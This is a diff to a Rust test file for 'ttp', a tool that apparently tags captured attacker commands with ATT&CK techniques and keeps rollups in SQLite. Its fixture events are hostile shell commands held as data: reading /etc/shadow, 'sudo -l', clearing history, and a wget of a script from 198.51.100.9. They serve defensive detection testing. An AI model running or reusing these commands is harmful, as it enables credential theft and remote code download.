@@ -91,13 +91,21 @@ fn decnet_db(dir: &Path) -> PathBuf {
 /// Our own file, written by `ttp tag`.
 fn own_db(dir: &Path) -> PathBuf {
     let db = dir.join("own.db");
+    tag(
+        &db,
+        &[
+            r#"{"source_kind":"command","source_id":"1","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"cat /etc/shadow"}}"#,
+            r#"{"source_kind":"command","source_id":"2","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"sudo -l"}}"#,
+            r#"{"source_kind":"command","source_id":"3","attacker_uuid":"a2","identity_uuid":"i1","session_id":"s2","payload":{"command_text":"cat /etc/shadow; history -c"}}"#,
+            r#"{"source_kind":"command","source_id":"4","identity_uuid":"i1","payload":{"command_text":"wget http://198.51.100.9/x.sh"}}"#,
+        ],
+    );
+    db
+}
+
+/// `ttp tag` of `events` into `db`.
+fn tag(db: &Path, events: &[&str]) {
     let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
-    let events = [
-        r#"{"source_kind":"command","source_id":"1","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"cat /etc/shadow"}}"#,
-        r#"{"source_kind":"command","source_id":"2","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"sudo -l"}}"#,
-        r#"{"source_kind":"command","source_id":"3","attacker_uuid":"a2","identity_uuid":"i1","session_id":"s2","payload":{"command_text":"cat /etc/shadow; history -c"}}"#,
-        r#"{"source_kind":"command","source_id":"4","identity_uuid":"i1","payload":{"command_text":"wget http://198.51.100.9/x.sh"}}"#,
-    ];
     let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_ttp"))
         .args([
             "tag",
@@ -118,7 +126,6 @@ fn own_db(dir: &Path) -> PathBuf {
         .write_all(events.join("\n").as_bytes())
         .unwrap();
     assert!(c.wait().unwrap().success());
-    db
 }
 
 fn check_views(db: &Path) {
@@ -336,7 +343,9 @@ fn an_older_file_is_migrated_in_place() {
     {
         let c = Connection::open(&db).unwrap();
         c.execute_batch(
-            "DROP VIEW ttp_tag_named; DROP VIEW ttp_technique_rollup; DROP VIEW ttp_attacker_rollup; \
+            "DROP TRIGGER ttp_tag_totals_delete; \
+             DROP TRIGGER ttp_tag_totals_update; DROP TABLE ttp_technique_totals; \
+             DROP VIEW ttp_tag_named; DROP VIEW ttp_technique_rollup; DROP VIEW ttp_attacker_rollup; \
              DROP VIEW ttp_session_rollup; DROP VIEW ttp_identity_rollup; DROP TABLE ttp_attack_release; \
              DROP TABLE ttp_attack_tactic; DROP TABLE ttp_attack_technique; PRAGMA user_version = 3;",
         )
@@ -367,4 +376,95 @@ fn an_older_file_is_migrated_in_place() {
         })
         .unwrap();
     assert!(n > 800, "{n}");
+}
+
+/// The fleet rollup as a scan of every tag computes it.
+fn scanned(conn: &Connection) -> Vec<(String, Option<String>, String, i64, String, String, f64)> {
+    let mut stmt = conn
+        .prepare(
+            "SELECT technique_id, sub_technique_id, MAX(tactic), COUNT(*), MIN(created_at), \
+             MAX(created_at), MAX(confidence) FROM ttp_tag \
+             GROUP BY technique_id, sub_technique_id ORDER BY technique_id, sub_technique_id",
+        )
+        .unwrap();
+    stmt.query_map([], |r| {
+        Ok((
+            r.get(0)?,
+            r.get(1)?,
+            r.get(2)?,
+            r.get(3)?,
+            r.get(4)?,
+            r.get(5)?,
+            r.get(6)?,
+        ))
+    })
+    .unwrap()
+    .collect::<Result<_, _>>()
+    .unwrap()
+}
+
+fn from_library(db: &Path) -> Vec<(String, Option<String>, String, i64, String, String, f64)> {
+    Reader::open(db)
+        .unwrap()
+        .rollup(&Scope::Fleet, &Window::default())
+        .unwrap()
+        .into_iter()
+        .map(|r| {
+            (
+                r.technique_id,
+                r.sub_technique_id,
+                r.tactic,
+                r.count,
+                r.first_seen,
+                r.last_seen,
+                r.confidence_max,
+            )
+        })
+        .collect()
+}
+
+/// Our file keeps the fleet rollup in a table (the writer adds its new
+/// tags, triggers redo the groups a delete or an update touches); it stays
+/// equal to a scan through new and repeated tags, deletes and updates.
+#[test]
+fn the_kept_fleet_rollup_equals_a_scan() {
+    let work = tempfile::TempDir::new().unwrap();
+    let db = own_db(work.path());
+    let conn = Connection::open(&db).unwrap();
+    // (The FOREIGN KEY clauses name DECNET's tables, absent here.)
+    conn.execute_batch("PRAGMA foreign_keys = OFF").unwrap();
+    let check = |what: &str| assert_eq!(from_library(&db), scanned(&conn), "{what}");
+    check("after ttp tag");
+    assert!(scanned(&conn).len() >= 3);
+    // The same events again (nothing new) and two new ones.
+    let before = from_library(&db);
+    own_db(work.path());
+    assert_eq!(from_library(&db), before, "repeated tags counted twice");
+    tag(
+        &db,
+        &[
+            r#"{"source_kind":"command","source_id":"9","attacker_uuid":"a9","payload":{"command_text":"cat /etc/shadow"}}"#,
+            r#"{"source_kind":"command","source_id":"10","attacker_uuid":"a9","payload":{"command_text":"sudo -l"}}"#,
+        ],
+    );
+    check("after new tags");
+    assert_ne!(from_library(&db), before);
+    let one: String = conn
+        .query_row("SELECT uuid FROM ttp_tag ORDER BY uuid LIMIT 1", [], |r| {
+            r.get(0)
+        })
+        .unwrap();
+    conn.execute("DELETE FROM ttp_tag WHERE uuid = ?1", [&one])
+        .unwrap();
+    check("after a delete");
+    conn.execute_batch(
+        "UPDATE ttp_tag SET technique_id = 'T1078', sub_technique_id = NULL, \
+         created_at = '2030-01-01 00:00:00.000000' \
+         WHERE uuid = (SELECT max(uuid) FROM ttp_tag)",
+    )
+    .unwrap();
+    check("after an update");
+    conn.execute_batch("DELETE FROM ttp_tag").unwrap();
+    check("after deleting everything");
+    assert!(from_library(&db).is_empty());
 }
